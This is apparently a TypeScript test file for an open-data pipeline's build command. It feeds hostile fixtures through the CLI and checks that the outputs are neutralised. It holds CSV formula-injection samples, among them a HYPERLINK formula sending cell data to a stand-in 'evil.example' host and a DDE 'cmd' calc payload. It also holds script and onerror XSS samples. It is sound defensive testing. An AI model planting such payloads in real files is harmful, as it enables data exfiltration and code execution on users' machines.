/**
 * Every kind of bad or hostile input in test/fixtures/bad-input/<case>/ (its source/ folder and
 * expected.json, whose `why` says what the case is) goes through the real command line, in process.
 * For each: the exit code; the diagnostics, each naming the file and, where the problem has one, its
 * line and column, with a rule id; no stack trace; the source untouched; and on failure a previously
 * built dataset byte-for-byte unchanged, with nothing left beside it.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../pipeline/command/index.js';
import { root } from '../helpers.js';
import { longParagraph } from '../generators.js';
import { nodes, parseMarkdown } from '../markdown.js';
import { snapshot } from '../cli/run.js';

interface ExpectedMessage {
  /** Path relative to the case folder ('' for the folder itself, or absolute). */
  file: string;
  place?: string;
  severity: 'error' | 'warning';
  rule: string;
  text?: string;
}

interface Expected {
  why: string;
  args?: string[];
  generate?: string;
  exit: number;
  messages?: ExpectedMessage[];
  stderr?: string;
  outputs?: 'built' | 'same-as-clean-page' | 'safe-csv' | 'safe-markdown';
}

const fixtures = join(root, 'test/fixtures/bad-input');
const cases = readdirSync(fixtures).sort();
const scratch = mkdtempSync(join(tmpdir(), 'odp-bad-input-'));
const previous = join(scratch, 'previous-dist');
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Runs the command line in process, as `npm run build` would from the repository root. */
async function runCommand(args: string[]): Promise<{ status: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const status = await main(args, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env: {} });
  return { status, stdout, stderr };
}

/** The messages vfile-reporter printed, with the file each is under, read back from its text. */
function printedMessages(stderr: string): Array<{ file: string; place?: string; severity: string; reason: string; rule: string }> {
  const messages = [];
  let file = '';
  for (const line of stderr.split('\n')) {
    if (line === '' || /^[✖⚠]/u.test(line) || / failed: nothing was written$/.test(line)) continue;
    const match = /^\s*(?:(\d+:\d+)(?:-\d+:\d+)?\s+)?(error|warning)\s+(.+?)\s+([a-z][a-zA-Z0-9-]*)\s+open-data-pipeline$/.exec(line);
    if (!match) {
      // vfile-reporter names the file on a line of its own, then lists its messages.
      file = line;
      continue;
    }
    messages.push({ file, ...(match[1] ? { place: match[1] } : {}), severity: match[2]!, reason: match[3]!, rule: match[4]! });
  }
  return messages;
}

/** Inputs that cannot be committed as files. */
const generators: Record<string, (caseFolder: string) => void> = {
  fifo: (folder) => execFileSync('mkfifo', [join(folder, 'source/pipe.md')]),
  'huge-page': (folder) => {
    const paragraph = 'The National Cyber Security Agency (NCSA) was set up in Paris on 14 May 2008 and met again in 2011. '.repeat(10) + '\n\n';
    writeFileSync(join(folder, 'source/page.md'), cleanFrontMatter() + paragraph.repeat(Math.ceil((20 * 1024 * 1024) / paragraph.length)));
  },
  'many-acronyms-and-dates': (folder) => writeFileSync(join(folder, 'source/page.md'), `${cleanFrontMatter()}\n${longParagraph(3000).text}\n`),
};

function cleanFrontMatter(): string {
  const clean = readFileSync(join(fixtures, 'clean-page/source/page.md'), 'utf8');
  return clean.slice(0, clean.indexOf('\n---\n') + 5);
}

// No case may reach the network: every TCP connection (http, https, fetch) goes through Socket#connect.
const connections: string[] = [];
const connect = Socket.prototype.connect;
beforeAll(() => {
  Socket.prototype.connect = function (this: Socket, ...args: unknown[]) {
    connections.push(JSON.stringify(args[0]));
    throw new Error('network access in a test of bad input');
  } as typeof connect;
});
afterAll(() => {
  Socket.prototype.connect = connect;
  // Checked last, once every case has run.
  expect(connections).toEqual([]);
});

beforeAll(async () => {
  // The dataset a previous good build left: every failed case must leave it as it was.
  const built = await runCommand(['build', '--source', join(fixtures, 'clean-page/source'), '--out', previous]);
  expect(built.status, built.stderr).toBe(0);
});

describe.each(cases)('bad input: %s', (name) => {
  const expected = JSON.parse(readFileSync(join(fixtures, name, 'expected.json'), 'utf8')) as Expected;
  const folder = join(scratch, name);
  const out = join(folder, 'dist');
  let run: { status: number; stdout: string; stderr: string };
  let sourceBefore: Record<string, string>;

  beforeAll(async () => {
    cpSync(join(fixtures, name), folder, { recursive: true, verbatimSymlinks: true });
    if (expected.generate) {
      // Git keeps no empty folder: a generated case's source/ may not exist yet.
      mkdirSync(join(folder, 'source'), { recursive: true });
      generators[expected.generate]!(folder);
    }
    cpSync(previous, out, { recursive: true });
    sourceBefore = existsSync(join(folder, 'source')) ? snapshot(join(folder, 'source')) : {};
    const args = (expected.args ?? []).map((arg) => arg.replaceAll('{case}', folder).replaceAll('{source}', join(folder, 'source')));
    const defaults = [...(args.includes('--source') ? [] : ['--source', join(folder, 'source')]), ...(args.includes('--out') ? [] : ['--out', out])];
    run = await runCommand(['build', ...defaults, ...args]);
  }, 60_000);

  it(`exits with ${expected.exit} (${expected.why})`, () => {
    expect(run.status, run.stderr).toBe(expected.exit);
  });

  it('prints diagnostics with file, place and rule, and no stack trace', () => {
    expect(run.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
    expect(run.stderr).not.toContain('internal error');
    if (expected.stderr) expect(run.stderr).toContain(expected.stderr);
    if (expected.exit === 2) return;
    const printed = printedMessages(run.stderr);
    for (const want of expected.messages ?? []) {
      const file = resolve(folder, want.file);
      const found = printed.find(
        (m) => resolve(root, m.file) === file && m.rule === want.rule && m.severity === want.severity && (want.place === undefined || m.place === want.place) && (want.text === undefined || m.reason.includes(want.text)),
      );
      expect(found, `${JSON.stringify(want)} in\n${run.stderr}`).toBeDefined();
    }
    if (expected.exit !== 0) expect(printed.some((m) => m.severity === 'error' || expected.args?.includes('--strict'))).toBe(true);
  });

  it('leaves the source as it was', () => {
    if (existsSync(join(folder, 'source'))) expect(snapshot(join(folder, 'source'))).toEqual(sourceBefore);
  });

  if (expected.exit !== 0) {
    it('leaves the previous dataset byte-for-byte unchanged, with nothing beside it', () => {
      expect(snapshot(out)).toEqual(snapshot(previous));
      expect(readdirSync(dirname(out)).filter((entry) => entry.startsWith('dist.'))).toEqual([]);
    });
  } else {
    it(`writes a complete dataset (${expected.outputs})`, () => {
      const files = snapshot(out);
      const sums = readFileSync(join(out, 'SHA256SUMS'), 'utf8').trim().split('\n').map((line) => line.slice(66));
      expect(Object.keys(files).sort()).toEqual([...sums, 'SHA256SUMS'].sort());
      checkOutputs(expected.outputs!, out);
    });
  }
});

function checkOutputs(kind: NonNullable<Expected['outputs']>, out: string): void {
  switch (kind) {
    case 'built':
      return;
    case 'same-as-clean-page':
      // The previous dataset is the clean page's.
      expect(snapshot(out)).toEqual(snapshot(previous));
      return;
    case 'safe-csv':
      return checkSafeCsv(out);
    case 'safe-markdown':
      return checkSafeMarkdown(out);
  }
}

const formulaStart = /^[=+\-@\t\r]/;

/** No text cell of any table starts like a formula; the values keep their text behind the apostrophe. */
function checkSafeCsv(out: string): void {
  const descriptor = JSON.parse(readFileSync(join(out, 'datapackage.json'), 'utf8')) as {
    resources: Array<{ path: string; schema?: { fields: Array<{ name: string; type: string }> } }>;
  };
  const cells: string[] = [];
  for (const resource of descriptor.resources.filter((r) => r.schema)) {
    const rows = parseCsv(readFileSync(join(out, resource.path), 'utf8'), { columns: true }) as Array<Record<string, string>>;
    for (const field of resource.schema!.fields.filter((f) => f.type === 'string')) {
      for (const row of rows) {
        const cell = row[field.name]!;
        expect(cell, `${resource.path} ${field.name}`).not.toMatch(formulaStart);
        cells.push(cell);
      }
    }
  }
  // The hostile values are there, neutralised: title, publisher, rights, description, headings, passages, names.
  for (const value of ['=HYPERLINK("https://evil.example/?q="&A1, "Click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1 All rights reserved', '-2+3 \tdescription', '=SUM(A1:A9)', '+Monitoring Office', '-Minus Board', '@Commercial Group']) {
    expect(cells, value).toContain(`'${value}`);
  }
  expect(cells.some((cell) => cell.startsWith(`'=HYPERLINK("https://evil.example", "Agency")`))).toBe(true);
  // The JSON-LD keeps the text as written: neutralising is the CSV's business.
  const graph = readFileSync(join(out, 'dataset.jsonld'), 'utf8');
  expect(graph).toContain(JSON.stringify('=HYPERLINK("https://evil.example/?q="&A1, "Click")'));
}

/** The generated Markdown, read as GitHub renders it, holds no HTML and no link the input slipped in. */
function checkSafeMarkdown(out: string): void {
  const markdownFiles = Object.keys(snapshot(out)).filter((path) => path.endsWith('.md'));
  expect(markdownFiles.length).toBeGreaterThan(0);
  let text = '';
  for (const path of markdownFiles) {
    const tree = parseMarkdown(readFileSync(join(out, path), 'utf8'));
    for (const node of nodes(tree)) {
      expect(node.type, `${path}: ${JSON.stringify(node).slice(0, 200)}`).not.toBe('html');
      if (node.type === 'link' || node.type === 'image' || node.type === 'definition') expect(node.url, path).not.toMatch(/^\s*javascript:/i);
      if ('value' in node && typeof node.value === 'string') text += `${node.value}\n`;
    }
  }
  // What looked like markup is shown as text.
  for (const shown of ['<script>alert(1)</script> **bold** [click](javascript:alert(1)) | pipe', '<img src=x onerror=alert(1)> Ministry', '<img src=x onerror=alert(1)> Agency']) {
    expect(text, shown).toContain(shown);
  }
}
